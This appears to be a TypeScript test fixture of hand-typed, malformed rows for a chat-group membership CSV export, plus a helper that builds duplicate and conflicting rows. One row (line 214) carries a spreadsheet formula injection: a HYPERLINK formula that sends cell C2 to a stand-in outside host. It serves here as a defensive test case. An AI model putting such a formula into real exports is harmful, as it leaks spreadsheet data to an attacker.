import { GROUPS, type Group, type Row, rowFor } from './memberships.ts';

/** A user of the chat who is in no department, with a name that a spreadsheet would run. */
export const CONTRACTOR = 'contractor-17';

const LONG_UID =
  'cn_elena_rossi_ou_manufacturing_ou_bologna_o_larkfield_garden_tools_dc_people_dc_larkfield_dc_example';

/** Lines that somebody typed into the export, most of them wrong, with the line at which each stands (the header is 1). */
export const TYPED_BY_HAND: readonly (readonly [line: number, text: string])[] = [
  [57, 'us,office-portland,,participant,,Priya Raman,Design,Portland'],
  [
    214,
    `us,all-hands,${CONTRACTOR},participant,,"=HYPERLINK(""https://prize.example/?u=""&C2,""Open"")",Support,Portland`,
  ],
  [390, 'us,dept-design,maria lopez,participant,,María López,Design,Portland'],
  [561, 'us,club-choir,grace-hale,owner,,Grace Hale,Engineering,Portland'],
  [733, 'us,dept-legal,owen-lund,participant,,Lund, Owen,Legal,Austin'],
  [905, 'us,club-kayak'],
  [1202, 'usa,all-hands,zoe-tran,participant,,Zoë Tran,Sales,Chicago'],
  [1350, 'us,,harold-yazzie,participant,,Harold Yazzie,Support,Chicago'],
  [1588, 'us,club-chess,judith-bell@larkfield.example,,,Judith Bell,Finance,Duluth'],
  [1745, 'eu,all-hands,aoife-byrne,member of staff,,Aoife Byrne,Sales,Dublin'],
  [1960, 'uk,office-dublin,orla-nolan,participant,,Orla Nolan,Support,Dublin'],
  [2204, 'eu,dept-support,,moderator,,Benoît Roux,Support,Lyon'],
  [2466, 'eu,dept-finance,zelie-roux,participant,,Roux, Zélie,Finance,Lyon'],
  [2671, 'eu,club-hiking,łukasz-nowak,,,Łukasz Nowak,Engineering,Kraków'],
  [2890, `eu,all-hands,${LONG_UID},participant,,Elena Rossi,Manufacturing,Bologna`],
  [3022, 'eu,office-malmo'],
  [3307, 'in,class-kathak,tara nair,participant,,Tara Nair,People,Pune'],
  [3684, 'apac,office-kochi,leela-kurian,guest,,Leela Kurian,Sales,Kochi'],
  [4020, 'in,dept-board,,,,佐藤 誠,Board,Osaka'],
  [4201, 'apac,all-hands,hsu-hsin-yi,participant,,許 心怡,Design,Taipei'],
];

/**
 * What somebody pasted under the export: rows that it has already, some with a UID in another case; moderators who stand
 * above as participants; captains whom a club's own list has as plain members.
 */
export function pastedBelow(exported: readonly Row[]): readonly Row[] {
  const repeated = exported
    .filter((_, index) => index % 100 === 63)
    .map((row, index) => (index % 4 === 1 ? { ...row, uid: capitalised(row.uid) } : row));
  const clubs = GROUPS.filter(({ guid }) => guid.startsWith('club-'));
  const second = clubs.filter(({ people }) => people.length >= 9 && people.length <= 40);
  const captains = clubs.filter(({ people }) => people.length >= 20);
  return [...repeated, ...second.flatMap(member(1, 'moderator')), ...captains.flatMap(member(0, ''))];
}

function member(index: number, role: string): (group: Group) => Row[] {
  return (group) => group.people.slice(index, index + 1).map((person) => rowFor(group, person, role));
}

/** "aoife-byrne" → "Aoife-Byrne". */
function capitalised(uid: string): string {
  return uid.replace(/\b[a-z]/g, (letter) => letter.toUpperCase());
}
